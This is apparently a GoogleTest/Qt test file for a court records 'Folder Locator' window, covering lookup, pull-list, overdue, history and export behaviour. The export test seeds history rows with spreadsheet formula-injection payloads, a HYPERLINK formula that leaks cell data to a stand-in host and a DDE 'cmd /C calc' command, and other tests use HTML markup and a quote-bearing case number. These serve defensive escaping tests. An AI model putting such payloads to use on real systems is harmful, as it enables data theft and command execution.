#include "ModalAnswerer.h"
#include "Scenario.h"
#include "TestWorld.h"
#include "WindowDriver.h"
#include "clsFolder.h"
#include "records/Connection.h"

#include <QAbstractItemModel>
#include <QApplication>
#include <QDateTime>
#include <QFile>
#include <QLabel>
#include <QPointer>
#include <QPushButton>
#include <QRegularExpression>
#include <QTabWidget>
#include <QTcpServer>
#include <QTableView>
#include <QTest>
#include <ctime>
#include <gtest/gtest.h>

namespace {

using namespace Scenario;

const QString Locator = QStringLiteral("frmFolderLocate");

// {ago:N}: today less N days as FILUDT stores it (MMddyyyy, a number); {d:N} as the window shows
// it; {tomorrow}: tomorrow as yyyymmdd, the hearing date the pull list starts on.
QString Dates(QString text)
{
    static const QRegularExpression ago(QStringLiteral("\\{(ago|d):(\\d+)\\}"));
    for (auto m = ago.match(text); m.hasMatch(); m = ago.match(text)) {
        const QDate date = QDate::currentDate().addDays(-m.captured(2).toInt());
        text.replace(m.capturedStart(), m.capturedLength(),
                     m.captured(1) == QLatin1String("ago") ? QString::number(date.toString("MMddyyyy").toInt())
                                                           : date.toString("MM/dd/yyyy"));
    }
    return Expand(text.replace("{tomorrow}", QDate::currentDate().addDays(1).toString("yyyyMMdd")));
}


// The court every row starts from: two cases with litigants, for the titles and the "on file" check
// (CV is a criminal type: its master is MASCRM).
const char *const Masters[] = {"MASCRM VALUES (2009,'CV',123,'PL',1,'N','ABLE',''",
                               "MASCRM VALUES (2009,'CV',123,'DF',1,'N','BAKER',''",
                               "MASCRM VALUES (2010,'CF',7,'PL',1,'S','STATE',''",
                               "MASCRM VALUES (2010,'CF',7,'DF',1,'S','DOE',''"};

struct Row
{
    const char *name;
    QString court;    // "TABLE VALUES (...)" rows, "; " between them
    QString settings; // "Section/Key=value"
    QString steps, answers; // the editor opened by Edit is answered with its steps, " & " between them
    QString label;    // the view's heading
    QString lines;    // the view's list, a row's cells joined by " | ", "; " between rows
    QStringList boxes = {};
    QString written = {}; // FolderLocate settings after ("" unchecked)
};

// The locator as a host opens it (modeless: Locate returns at once), on the view asked for.
QPointer<QWidget> Open(clsFolder &folder, int view = 0)
{
    folder.Locate("CLERK1");
    QPointer<QWidget> w = WindowDriver::Find(Locator);
    if (w)
        w->findChild<QTabWidget *>("tabViews")->setCurrentIndex(view);
    return w;
}

// The history's stamps are stored in UTC and shown in local time: local time is made UTC.
void LocalTimeIsUtc()
{
    qputenv("TZ", "UTC");
    tzset();
}

// Opens the locator as a host does, runs the row's steps in one view, and checks what it lists.
void Check(const Row &row, int view, const char *labelName = nullptr)
{
    SCOPED_TRACE(row.name);
    LocalTimeIsUtc();
    TestWorld world;
    world.InstallReferenceTables();
    for (const char *values : Masters)
        world.Exec(QStringLiteral("INSERT INTO MRLCRT.%1)").arg(QLatin1String(values)));
    for (const QString &values : Lines(row.court)) // "drop": a data error, the criminal masters gone
        world.Exec(values == "drop" ? "DROP TABLE MRLCRT.MASCRM" : "INSERT INTO MRLCRT." + Dates(values));
    Store(world, Lines(row.settings));
    ModalAnswerer answerer(Lines(row.answers));
    answerer.AnswerWindows([](QWidget *window, const QString &steps) { Act(window, QString(steps).replace(" & ", "; ")); });

    clsFolder folder;
    QPointer<QWidget> w = Open(folder, view);
    ASSERT_NE(w, nullptr);
    EXPECT_EQ(w->windowTitle(), "PC/MEVS - Folder Locator");
    w->activateWindow();
    EXPECT_TRUE(QTest::qWaitForWindowActive(w));
    Act(w, Dates(row.steps));
    QTest::qWait(20); // the last box answered

    const char *grids[] = {"grdCase", "grdHolder", "grdPull", "grdOverdue"};
    const QAbstractItemModel *list = w->findChild<QTableView *>(grids[view])->model();
    QStringList lines;
    for (int r = 0; r < list->rowCount(); ++r) {
        QStringList cells;
        for (int c = 0; c < list->columnCount(); ++c)
            cells << list->index(r, c).data().toString();
        lines << cells.join(" | ");
    }
    // A line ending in "*" states only its start (a reason worded by the case key's reader).
    EXPECT_TRUE(Match(Lines(Dates(row.lines)), lines)) << lines.join('\n').toStdString();
    if (labelName) {
        const QLabel *label = w->findChild<QLabel *>(labelName);
        EXPECT_EQ(label->text(), Dates(row.label));
        EXPECT_LT(label->sizeHint().height(), 200) << "court text drawn as markup";
    }
    EXPECT_TRUE(Match(row.boxes, answerer.Lines())) << answerer.Lines().join('\n').toStdString();
    w->close(); // never a question: the locator holds nothing to lose
    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
    EXPECT_TRUE(w.isNull());
    if (!row.written.isEmpty()) {
        EXPECT_EQ(Section(world, "FolderLocate").filter("OverdueDays"), Lines(row.written.section('-', 0, 0)));
    }
}

const QString Out1 = "FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-01-05T09:30:00.000Z',2009,'CV',123,1,'CLERK1','SMI',1)";
const QString In1 = "FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-02-10T14:00:00.000Z',2009,'CV',123,1,'CLERK2','SMI',0)";
const QString Out2 = "FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-01T08:15:00.000Z',2009,'CV',123,0,'CLERK1','O''NEIL, J',1)";
const QString Other = "FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-02T08:15:00.000Z',2009,'CV',124,1,'CLERK1','ELSEWHERE',1)";

const Row caseRows[] = {
    {"on loan: the holder, since when, by whom; the history newest first, no other case's",
     "FILCHK VALUES (2009,'CV',123,'O''NEIL, J',{ago:12},'CLERK1'); " + Out1 + "; " + In1 + "; " + Out2 + "; " + Other, "",
     "txtCASNUM=2009-cv-123; txtCASNUM:Return", "",
     "2009-CV-000123: out to O'NEIL, J since {d:12}, recorded by CLERK1",
     "2026-03-01 08:15:00 | out to | O'NEIL, J | CLERK1; 2026-02-10 14:00:00 | back from | SMI | CLERK2; "
     "2026-01-05 09:30:00 | out to | SMI | CLERK1"},
    {"in the file room, a scanned label, whatever the box held", Out1 + "; " + In1, "", "txtCASNUM=2011-cr-5; scan=2009CV000123", "",
     "2009-CV-000123: in the file room", "2026-02-10 14:00:00 | back from | SMI | CLERK2; 2026-01-05 09:30:00 | out to | SMI | CLERK1"},
    {"typing by hand goes on from what the box held", "", "", "txtCASNUM=2011-cr-; typed=5", "",
     "2011-CR-000005: in the file room (no such case on file)", ""},
    {"a case the court does not have, written with blanks, found by the button", "", "",
     "txtCASNUM=2011 CR 5; cmdFindCase", "", "2011-CR-000005: in the file room (no such case on file)", ""},
    {"a loan changed through Edit is shown as saved", "FILCHK VALUES (2009,'CV',123,'SMI',{ago:3},'CLERK2')", "",
     "txtCASNUM=2009-cv-123; txtCASNUM:Return; cmdEdit", "txtFILOTO=jones & cmdSave",
     "2009-CV-000123: out to JONES since {d:0}, recorded by CLERK1", "", {"PC/MEVS - File Checkout - 2009-CV-000123:  []"}},
    {"a data error is reported; the window stays for the next question", "drop", "", "txtCASNUM=2009-cv-123; txtCASNUM:Return", "OK",
     "", "", {"Data Error: *"}},
    {"a criminal case on loan with no date", "FILCHK VALUES (2010,'CF',7,'DA',NULL,'CLERK3')", "",
     "txtCASNUM=2010-CF-7; txtCASNUM:Return", "", "2010-CF-000007: out to DA since (no date), recorded by CLERK3", ""},
    {"not a case number: said under the box, nothing asked of the court", "", "", "txtCASNUM=2009-CV; txtCASNUM:Return", "",
     "\"2009-CV\" is not a case number; type it as 2009-CV-123, 2009 CV 123 or 2009CV000123.", ""},
    {"a type code stored in lower case is found, shown as the court's code",
     "FILCHK VALUES (2009,'cv',123,'SMI',{ago:1},'CLERK1')", "", "txtCASNUM=2009-CV-123; txtCASNUM:Return", "",
     "2009-CV-000123: out to SMI since {d:1}, recorded by CLERK1", ""},
    {"a holder's markup is shown as typed, never drawn",
     "FILCHK VALUES (2009,'CV',123,'<h1 style=\"font-size:400px\">X</h1><img src=\"/x\" width=3000>',{ago:1},'<b>ME</b>')", "",
     "txtCASNUM=2009-CV-123; txtCASNUM:Return", "",
     "2009-CV-000123: out to <h1 style=\"font-size:400px\">X</h1><img src=\"/x\" width=3000> since {d:1}, recorded by <b>ME</b>", ""},
    {"a hostile type cannot reach a statement", "FILCHK VALUES (2009,'CV',123,'SMI',{ago:1},'CLERK1')", "",
     "txtCASNUM=2009-C'-123; txtCASNUM:Return", "", "\"2009-C'-123\" is not a case number; type it as 2009-CV-123, 2009 CV 123 or 2009CV000123.", ""},
};

const QString Held = "FILCHK VALUES (2009,'CV',123,'SMI',{ago:40},'CLERK1'); FILCHK VALUES (2010,'CF',7,'SMI ',{ago:3},'CLERK2'); "
                     "FILCHK VALUES (2009,'CV',5,'SMI',{ago:40},'CLERK1'); FILCHK VALUES (2009,'CV',6,'SMITH',{ago:90},'CLERK1'); "
                     "FILCHK VALUES (2009,'CV',7,'SMI',0,'CLERK1'); FILCHK VALUES (2009,'CV',8,'S%I',{ago:2},'CLERK1')";

const Row holderRows[] = {
    {"oldest first, equal dates by case, an unreadable date last; a longer name, one going on after a tab and a wildcard "
     "are someone else",
     Held + "; FILCHK VALUES (2009,'CV',11,'SMI\tX',{ago:5},'CLERK1')", "",
     "txtREQOTO=smi; txtREQOTO:Return", "", "",
     "2009-CV-000005 | {d:40} | 40 | CLERK1; 2009-CV-000123 | {d:40} | 40 | CLERK1; 2010-CF-000007 | {d:3} | 3 | CLERK2; "
     "2009-CV-000007 | (no date) |  | CLERK1"},
    {"letter case and trailing blanks do not count; a lower-case type code is the court's",
     Held + "; FILCHK VALUES (2009,'cv',9,'sMi  ',{ago:1},'CLERK1'); FILCHK VALUES (2009,'CV',10,'Smith',{ago:1},'CLERK1')", "",
     "txtREQOTO=Smi ; txtREQOTO:Return", "", "",
     "2009-CV-000005 | {d:40} | 40 | CLERK1; 2009-CV-000123 | {d:40} | 40 | CLERK1; 2010-CF-000007 | {d:3} | 3 | CLERK2; "
     "2009-CV-000009 | {d:1} | 1 | CLERK1; 2009-CV-000007 | (no date) |  | CLERK1"},
    {"a name with a wildcard finds itself only", Held, "", "txtREQOTO=S%I; cmdFindHolder", "", "", "2009-CV-000008 | {d:2} | 2 | CLERK1"},
    {"a holder with nothing out", Held, "", "txtREQOTO=NOBODY; cmdFindHolder", "", "", ""},
    {"no holder typed", Held, "", "cmdFindHolder", "OK", "", "", {"Error: Type the party whose folders you are looking for. [OK]"}},
};

// Tomorrow's docket: judge SMI in room 1 and 4A, JON in room 2, one hearing the day after.
const QString Docket =
    "HRGDTA VALUES (2009,'CV',123,'SMI','1',{tomorrow},900); HRGDTA VALUES (2010,'CF',7,'JON','2',{tomorrow},1330); "
    "HRGDTA VALUES (2009,'CV',124,'SMI','4A',{tomorrow},1030); HRGDTA VALUES (2010,'CF',8,'SMI','1',{tomorrow},1600); "
    "HRGDTA VALUES (2010,'CF',7,'JON','2',{tomorrow},1330); HRGDTA VALUES (2010,'CF',9,'SMI','1',20991231,900); "
    "FILCHK VALUES (2009,'CV',123,'SMI',{ago:2},'CLERK1'); FILCHK VALUES (2010,'CF',7,'PUBLIC DEF',{ago:20},'CLERK2'); "
    "MASCRM VALUES (2010,'CF',8,'PL',1,'N','STATE',''); MASCRM VALUES (2010,'CF',8,'DF',1,'N','ROE','')";
const QString Pull123 = "09:00 | 1 | SMI | 2009-CV-000123 | ABLE VS BAKER | with the judge since {d:2}";
const QString Pull124 = "10:30 | 4A | SMI | 2009-CV-000124 |  | in the file room";
const QString Pull7 = "13:30 | 2 | JON | 2010-CF-000007 | STATE VS DOE | out to PUBLIC DEF since {d:20}";
const QString Pull8 = "16:00 | 1 | SMI | 2010-CF-000008 | STATE VS ROE | in the file room";

const Row pullRows[] = {
    {"tomorrow's docket by time, each folder where it is, a twice-entered hearing once", Docket, "", "cmdFindPull", "", "",
     Pull123 + "; " + Pull124 + "; " + Pull7 + "; " + Pull8},
    {"one judge", Docket, "", "pick cboREQJDG=JON; cmdFindPull", "", "", Pull7},
    {"one room", Docket, "", "pick cboREQROM=4A; cmdFindPull", "", "", Pull124},
    {"afternoon times typed without PM", Docket, "", "txtBEGTIM=1; txtENDTIM=330; cmdFindPull", "", "", Pull7},
    {"a morning range", Docket, "", "txtBEGTIM=800; txtENDTIM=1030; cmdFindPull", "", "", Pull123 + "; " + Pull124},
    {"a branch keeps the cases of that branch, a case without a master goes", Docket, "", "txtREQBRN=s; cmdFindPull", "", "", Pull7},
    {"begin without end", Docket, "", "txtBEGTIM=830; cmdFindPull", "OK", "", "",
     {"Error: Begin and end times must be both filled in, or both zero. [OK]"}},
    {"the end before the begin", Docket, "", "txtBEGTIM=130; txtENDTIM=1100; cmdFindPull", "OK", "", "",
     {"Error: The end time must fall after the begin time. [OK]"}},
    {"an evening time", Docket, "", "txtBEGTIM=800; txtENDTIM=701; cmdFindPull", "OK", "", "", {"Error: Invalid time. [OK]"}},
    {"a title that cannot be read is a data error naming the court; the list stays empty", Docket + "; drop", "", "cmdFindPull", "OK", "", "", {"Data Error: Court database *"}},
    {"a hearing row that holds no case key is listed as such", "HRGDTA VALUES (NULL,'CV',5,'SMI','1',{tomorrow},900)", "",
     "cmdFindPull", "", "", "09:00 | 1 | SMI | (none) CV 5 | (no usable case number: *"},
};

const QString Out = "FILCHK VALUES (2009,'CV',1,'JON',{ago:100},'C1'); FILCHK VALUES (2009,'CV',2,'SMI',{ago:31},'C1'); "
                    "FILCHK VALUES (2009,'CV',3,'JON',{ago:45},'C2'); FILCHK VALUES (2009,'CV',4,'SMI',{ago:30},'C1'); "
                    "FILCHK VALUES (2009,'CV',5,'DA',{ago:8},'C1'); FILCHK VALUES (2009,'CV',6,'DA',{ago:7},'C1'); "
                    "FILCHK VALUES (2009,'CV',7,'DA',{ago:0},'C1'); FILCHK VALUES (2009,'CV',8,'DA',{ago:91},'C1'); "
                    "FILCHK VALUES (2009,'CV',9,'DA',13019999,'C1'); FILCHK VALUES (2009,'CV',10,'DA',NULL,'C1')";

const Row overdueRows[] = {
    {"thirty days by default: by holder, the oldest folder's holder first; thirty days is not overdue", Out, "",
     "cmdFindOverdue", "", "Folders out by age - 0-7 days: 2, 8-30 days: 2, 31-90 days: 2, over 90 days: 2",
     "JON | 2009-CV-000001 | {d:100} | 100 | C1; JON | 2009-CV-000003 | {d:45} | 45 | C2; DA | 2009-CV-000008 | {d:91} | 91 | C1; "
     "SMI | 2009-CV-000002 | {d:31} | 31 | C1",
     {}, "OverdueDays=30"},
    {"a week, typed, is remembered", Out, "", "txtDAYS=7; txtDAYS:Return", "",
     "Folders out by age - 0-7 days: 2, 8-30 days: 2, 31-90 days: 2, over 90 days: 2",
     "JON | 2009-CV-000001 | {d:100} | 100 | C1; JON | 2009-CV-000003 | {d:45} | 45 | C2; DA | 2009-CV-000008 | {d:91} | 91 | C1; "
     "DA | 2009-CV-000005 | {d:8} | 8 | C1; SMI | 2009-CV-000002 | {d:31} | 31 | C1; SMI | 2009-CV-000004 | {d:30} | 30 | C1",
     {}, "OverdueDays=7"},
    {"the remembered number of days", Out, "FolderLocate/OverdueDays=90", "cmdFindOverdue", "",
     "Folders out by age - 0-7 days: 2, 8-30 days: 2, 31-90 days: 2, over 90 days: 2",
     "JON | 2009-CV-000001 | {d:100} | 100 | C1; DA | 2009-CV-000008 | {d:91} | 91 | C1", {}, "OverdueDays=90"},
    {"no days typed", Out, "", "txtDAYS=; cmdFindOverdue", "OK", "", "", {"Error: Type the number of days a folder may be out. [OK]"},
     "- nothing written"},
    {"an empty court", "", "", "cmdFindOverdue", "", "Folders out by age - 0-7 days: 0, 8-30 days: 0, 31-90 days: 0, over 90 days: 0",
     ""},
};

TEST(LocatorTest, EachView)
{
    for (const Row &row : caseRows)
        Check(row, 0, "lblLocation");
    for (const Row &row : holderRows)
        Check(row, 1);
    for (const Row &row : pullRows)
        Check(row, 2);
    for (const Row &row : overdueRows)
        Check(row, 3, "lblAges");
}

// Every view only reads: a court file in another journal mode is left byte for byte as it was.
TEST(LocatorTest, ViewsLeaveTheCourtFileAsItWas)
{
    if (!TestWorld::OnSQLite())
        GTEST_SKIP() << "the bytes of a court file";
    ModalAnswerer answerer; // no box is expected
    TestWorld world;
    world.InstallReferenceTables();
    for (const QString &values : Lines(Docket + "; " + Out1))
        world.Exec("INSERT INTO MRLCRT." + Dates(values));
    Connection::CloseAll();
    world.Exec("PRAGMA MRLCRT.journal_mode=DELETE");
    const auto bytes = [&] {
        QFile file(world.DatabaseFile());
        EXPECT_TRUE(file.open(QIODevice::ReadOnly));
        return file.readAll();
    };
    const QByteArray before = bytes();
    clsFolder folder;
    QPointer<QWidget> w = Open(folder);
    ASSERT_NE(w, nullptr);
    const char *steps[] = {"txtCASNUM=2009-CV-123; txtCASNUM:Return", "txtREQOTO=SMI; cmdFindHolder", "cmdFindPull",
                           "cmdFindOverdue"};
    for (int view = 0; view < 4; ++view) {
        w->findChild<QTabWidget *>("tabViews")->setCurrentIndex(view);
        Act(w, Dates(steps[view]));
    }
    EXPECT_EQ(w->findChild<QTableView *>("grdPull")->model()->rowCount(), 4);
    w->close();
    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
    Connection::CloseAll();
    EXPECT_TRUE(bytes() == before) << "a view wrote to the court file";
    EXPECT_FALSE(QFile::exists(world.DatabaseFile() + "-wal"));
}

// A server that never answers is given up on after one connect time, with one box: the view does
// not ask again for the statement it could not send.
TEST(LocatorTest, ASilentServerIsOneWaitAndOneBox)
{
    QTcpServer silent; // accepts (the kernel does) and never answers
    ASSERT_TRUE(silent.listen(QHostAddress::LocalHost));
    ModalAnswerer answerer({"OK"});
    TestWorld world;
    world.InstallReferenceTables();
    qputenv("ZORVA_DATABASE", QStringLiteral("postgresql://clerk@127.0.0.1:%1/court").arg(silent.serverPort()).toUtf8());
    clsFolder folder;
    QPointer<QWidget> w = Open(folder, 3);
    ASSERT_NE(w, nullptr);
    Act(w, "cmdFindOverdue");
    QTest::qWait(20); // the box answered
    int connects = 0;
    for (QTest::qWait(50); silent.hasPendingConnections(); ++connects)
        delete silent.nextPendingConnection();
    EXPECT_EQ(connects, 1);
    EXPECT_TRUE(Match({"Data Error: *"}, answerer.Lines())) << answerer.Lines().join('\n').toStdString();
    w->close();
}

// A court with 502 folders overdue: the list holds the 500 out longest, and "List all" the rest.
TEST(LocatorTest, OverdueListsTheLongestOutThenAll)
{
    ModalAnswerer answerer; // no box is expected
    TestWorld world;
    world.InstallReferenceTables();
    QStringList loans;
    for (int i = 1; i <= 502; ++i)
        loans << Dates(QStringLiteral("(2009,'CV',%1,'DA',{ago:%2},'C1')").arg(i).arg(31 + i));
    world.Exec("INSERT INTO MRLCRT.FILCHK VALUES " + loans.join(", "));
    clsFolder folder;
    QPointer<QWidget> w = Open(folder, 3);
    ASSERT_NE(w, nullptr);
    const QAbstractItemModel *list = w->findChild<QTableView *>("grdOverdue")->model();
    auto *all = w->findChild<QWidget *>("cmdAllOverdue");
    for (const QString step : {"cmdFindOverdue", "cmdAllOverdue"}) {
        Act(w, step);
        const bool first = step == "cmdFindOverdue";
        EXPECT_EQ(list->rowCount(), first ? 500 : 502) << step.toStdString();
        EXPECT_EQ(list->index(0, 1).data().toString(), "2009-CV-000502"); // the oldest first
        EXPECT_EQ(all->isVisible(), first);
        EXPECT_EQ(w->findChild<QLabel *>("lblAges")->text().contains("Only the 500 folders out longest"), first);
    }
    w->close();
}

} // namespace

namespace {

// A list leaves the window printed, as CSV (checked against a file written by hand, hostile
// parties and all) and as a PDF page, each to the file the clerk chose; a file that cannot be
// written is named in a box.
TEST(LocatorTest, ExportsTheListShown)
{
    LocalTimeIsUtc();
    TestWorld world;
    world.InstallReferenceTables();
    for (const QString &values : {Out1, Out2, Other,
                                  QString("FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-02T08:00:00.000Z',2009,'CV',123,1,'CLERK1','LINE\r\nTWO',0)"),
                                  QString("FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-03T08:00:00.000Z',2009,'CV',123,1,'CLERK1','SAYS \"HI\"',1)"),
                                  // Parties and users a spreadsheet would run as formulas.
                                  QString("FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-04T08:00:00.000Z',2009,'CV',123,1,'@SUM(1+1)','=HYPERLINK(\"http://x/?\"&A1,\"click\")',1)"),
                                  QString("FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-05T08:00:00.000Z',2009,'CV',123,1,'-1+1','+cmd|'' /C calc''!A0',0)"),
                                  QString("FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-06T08:00:00.000Z',2009,'CV',123,1,'\tTAB','\rCR',1)")})
        world.Exec("INSERT INTO MRLCRT." + values);
    const QString csv = world.Path("history.csv"), pdf = world.Path("history.pdf"), nowhere = world.Path("none/history.csv");
    ModalAnswerer answerer({"Close", "file:" + csv, "file:" + pdf, "file:" + nowhere, "OK", "Cancel"});
    clsFolder folder;
    QPointer<QWidget> w = Open(folder);
    ASSERT_NE(w, nullptr);
    Act(w, "txtCASNUM=2009-CV-123; txtCASNUM:Return; cmdPrint; cmdCsv; cmdPdf; cmdCsv; cmdPdf");
    QTest::qWait(20); // the last box answered
    EXPECT_TRUE(Match({"Print Preview:  []", "Export CSV:  []", "Export PDF:  []", "Export CSV:  []",
                       "Export: The list was not saved to " + nowhere + ": *", "Export PDF:  []"},
                      answerer.Lines()))
        << answerer.Lines().join('\n').toStdString();

    QFile actual(csv), expected(ZORVA_SOURCE_DIR "/tests/forms/folder_locate/history.csv");
    ASSERT_TRUE(actual.open(QIODevice::ReadOnly));
    ASSERT_TRUE(expected.open(QIODevice::ReadOnly));
    EXPECT_EQ(QString::fromUtf8(actual.readAll()), QString::fromUtf8(expected.readAll()));
    QFile printed(pdf);
    ASSERT_TRUE(printed.open(QIODevice::ReadOnly));
    EXPECT_TRUE(printed.read(5) == "%PDF-");
    EXPECT_GT(printed.size(), 1000);
    w->close();
}

} // namespace

namespace {

// A case handled for years: the view lists its 50 latest entries, newest first, with a last row
// counting the earlier ones; "Show all" (a click, or Tab to it and Enter) lists every entry, and
// the next case looked up is capped again.
TEST(LocatorTest, HistoryListsTheLatestThenAll)
{
    const QString find = "txtCASNUM=2009-CV-123; txtCASNUM:Return";
    const struct
    {
        const char *name;
        int entries;
        QString steps;
        int listed;        // entries in the list, the newest first
        const char *last;  // the last row's first cell: an entry's time, or what is left out
        bool showAll;      // the button enabled after the steps
    } rows[] = {
        {"exactly the cap: no earlier row, nothing to show", 50, find, 50, "2026-01-01 00:01:00", false},
        {"one past the cap: one earlier", 51, find, 50, "and 1 earlier", true},
        {"hundreds: the cap, the rest counted", 300, find, 50, "and 250 earlier", true},
        {"hundreds, Show all: every entry", 300, find + "; cmdShowAll", 300, "2026-01-01 00:01:00", false},
        {"Show all from the keyboard", 300, find + "; keys:Tab; keys:Tab; keys:Tab; keys:Return", 300, "2026-01-01 00:01:00", false},
        {"a case looked up after Show all is capped again", 300, find + "; cmdShowAll; " + find, 50, "and 250 earlier", true},
    };
    for (const auto &row : rows) {
        SCOPED_TRACE(row.name);
        LocalTimeIsUtc();
        ModalAnswerer answerer; // no box is expected
        TestWorld world;
        world.InstallReferenceTables();
        // Entry i a minute after the last, to party Pi; another case's entries never count.
        QStringList log;
        for (int i = 1; i <= row.entries; ++i)
            log << QStringLiteral("('%1',2009,'CV',123,1,'CLERK1','P%2',%3)")
                       .arg(QDateTime(QDate(2026, 1, 1), QTime(0, 0), Qt::UTC).addSecs(60 * i).toString(Qt::ISODateWithMs))
                       .arg(i)
                       .arg(i % 2);
        log << "('2026-06-01T00:00:00.000Z',2009,'CV',124,1,'CLERK1','ELSEWHERE',1)";
        world.Exec("INSERT INTO MRLCRT.FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES " +
                   log.join(", "));
        clsFolder folder;
        QPointer<QWidget> w = Open(folder);
        ASSERT_NE(w, nullptr);
        w->activateWindow();
        EXPECT_TRUE(QTest::qWaitForWindowActive(w));
        Act(w, row.steps);
        const QAbstractItemModel *list = w->findChild<QTableView *>("grdCase")->model();
        const bool capped = row.listed < row.entries;
        ASSERT_EQ(list->rowCount(), row.listed + (capped ? 1 : 0));
        for (int r : {0, row.listed - 1}) // the newest, and the oldest listed
            EXPECT_EQ(list->index(r, 2).data().toString(), QStringLiteral("P%1").arg(row.entries - r)) << r;
        EXPECT_EQ(list->index(list->rowCount() - 1, 0).data().toString(), row.last);
        const auto *showAll = w->findChild<QWidget *>("cmdShowAll");
        EXPECT_EQ(showAll->isEnabled(), row.showAll);
        // What was shown all at the clerk's asking leaves the focus on the list, not on a grey button.
        if (row.listed == row.entries && row.entries > 50) {
            EXPECT_EQ(QApplication::focusWidget(), w->findChild<QTableView *>("grdCase"));
        }
        EXPECT_TRUE(answerer.Lines().isEmpty()) << answerer.Lines().join('\n').toStdString();
        w->close();
        QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
    }
}

} // namespace

namespace {

// A long docket: the first screen is listed with its titles at once, the others are titled while
// the clerk reads; an export made before they are all in still holds every title.
TEST(LocatorTest, ALongPullListIsTitledWhileTheClerkReads)
{
    constexpr int Hearings = 3000;
    TestWorld world;
    world.InstallReferenceTables();
    QStringList hearings, litigants;
    for (int i = 1; i <= Hearings; ++i) {
        hearings << Dates(QStringLiteral("(2009,'CV',%1,'SMI','1',{tomorrow},900)").arg(i));
        litigants << QStringLiteral("(2009,'CV',%1,'PL',1,'N','P%1',''), (2009,'CV',%1,'DF',1,'N','D%1','')").arg(i);
    }
    world.Exec("INSERT INTO MRLCRT.HRGDTA VALUES " + hearings.join(", "));
    world.Exec("INSERT INTO MRLCRT.MASCRM VALUES " + litigants.join(", "));
    const QString csv = world.Path("pull.csv");
    ModalAnswerer answerer({"file:" + csv});
    clsFolder folder;
    QPointer<QWidget> w = Open(folder, 2);
    ASSERT_NE(w, nullptr);
    const QAbstractItemModel *list = w->findChild<QTableView *>("grdPull")->model();
    const auto title = [list](int hearing) { return list->index(hearing - 1, 4).data().toString(); };
    const auto shown = [](int hearing) { return QStringLiteral("P%1 VS D%1").arg(hearing); };

    w->findChild<QPushButton *>("cmdFindPull")->click();
    EXPECT_EQ(list->rowCount(), 100) << "the whole day read before the first screen was shown";
    EXPECT_EQ(title(1), shown(1));
    EXPECT_EQ(title(50), shown(50));
    // Generous: a sanitizer build on a busy machine titles slowly.
    QTRY_COMPARE_WITH_TIMEOUT(list->rowCount(), Hearings, 60000);
    QTRY_COMPARE_WITH_TIMEOUT(title(Hearings), shown(Hearings), 60000);
    EXPECT_EQ(list->index(Hearings - 1, 3).data().toString(), QStringLiteral("2009-CV-%1").arg(Hearings, 6, 10, QChar('0')));

    // Asked again, and exported at once: the file is written when every hearing and title is in.
    w->findChild<QPushButton *>("cmdFindPull")->click();
    w->findChild<QPushButton *>("cmdCsv")->click();
    QFile written(csv);
    ASSERT_TRUE(written.open(QIODevice::ReadOnly));
    const QStringList lines = QString::fromUtf8(written.readAll()).split("\r\n", Qt::SkipEmptyParts);
    ASSERT_EQ(lines.size(), Hearings + 1);
    for (int i = 1; i <= Hearings; ++i)
        ASSERT_TRUE(lines[i].contains(',' + shown(i) + ',')) << lines[i].toStdString();
    w->close();
}

} // namespace
